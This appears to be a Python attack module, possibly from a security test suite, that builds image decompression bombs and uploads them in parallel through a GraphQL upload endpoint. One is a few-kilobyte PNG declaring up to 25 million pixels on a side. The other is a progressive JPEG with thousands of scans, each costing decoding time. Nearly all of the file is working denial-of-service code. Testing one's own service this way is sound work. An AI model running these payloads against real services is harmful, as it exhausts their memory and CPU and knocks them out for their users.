"""Attacks by pictures that are small to send and large to decode."""

import asyncio
import json
import struct
import zlib
from collections.abc import Mapping

import httpx

UPLOAD = """mutation Upload($file: Upload!) {
  uploadSourceImage(input: {file: $file}) { sourceImage { id } userErrors { message } } }"""


def flat_png(width: int, height: int) -> bytes:
    """Write a black greyscale PNG of any size, of some kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        checksum = struct.pack("!I", zlib.crc32(kind + data))
        return struct.pack("!I", len(data)) + kind + data + checksum

    packer = zlib.compressobj(9)
    rows = 4096 // (width + 1) + 1
    packed = bytearray()
    for start in range(0, height, rows):
        packed += packer.compress(b"\0" * (width + 1) * min(rows, height - start))
    packed += packer.flush()
    head = struct.pack("!IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", bytes(packed))
        + chunk(b"IEND", b"")
    )


def many_scans_jpeg(width: int, height: int, scans: int) -> bytes:
    """Write a grey progressive JPEG whose every scan, of 46 bytes, goes over all its blocks."""

    def segment(marker: int, data: bytes) -> bytes:
        return bytes([0xFF, marker]) + struct.pack("!H", len(data) + 2) + data

    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    # Code 00 ends the band for 2**14 blocks and as many more as the 14 bits after it say.
    runs = ("00" + "1" * 14) * -(-blocks // 32_767)
    coded = int(runs, 2).to_bytes(len(runs) // 8).replace(b"\xff", b"\xff\0")
    return (
        b"\xff\xd8"
        + segment(0xDB, b"\0" + b"\1" * 64)
        + segment(0xC2, struct.pack("!BHHB", 8, height, width, 1) + b"\1\x11\0")
        + segment(0xC4, b"\x00\1" + b"\0" * 16)
        + segment(0xC4, b"\x10\0\1" + b"\0" * 14 + b"\xe0")
        + segment(0xDA, b"\1\1\0\0\0\0")
        + b"\0" * ((blocks + 7) // 8)
        + (segment(0xDA, b"\1\1\0\1\x3f\0") + coded) * scans
        + b"\xff\xd9"
    )


async def upload(url: str, key: str | None, data: bytes) -> dict[str, object]:
    """Upload a picture; return the payload."""
    headers = {"GraphQL-Require-Preflight": "1"}
    if key:
        headers["Authorization"] = f"Bearer {key}"
    async with httpx.AsyncClient(base_url=url, headers=headers, timeout=60) as client:
        operations = {"query": UPLOAD, "variables": {"file": None}}
        form = {"operations": json.dumps(operations), "map": '{"0": ["variables.file"]}'}
        response = await client.post("/graphql", data=form, files={"0": ("x.png", data)})
        payload: dict[str, object] = response.json()["data"]["uploadSourceImage"]
        return payload


async def attack_long_pictures(url: str, keys: Mapping[str, str]) -> None:
    """Upload pictures of a pixel by 25 million, and of the most pixels that are taken."""
    pictures = [flat_png(1, 25_000_000), flat_png(25_000_000, 1), flat_png(5_000, 5_000)]
    await asyncio.gather(*(upload(url, keys["creator"], data) for data in pictures * 2))


async def attack_many_scans(url: str, keys: Mapping[str, str]) -> None:
    """Upload JPEGs of 232 KB whose 4,000 scans would take half a minute of a core each."""
    data = many_scans_jpeg(5_000, 5_000, 4_000)
    await asyncio.gather(*(upload(url, keys["creator"], data) for _ in range(4)))
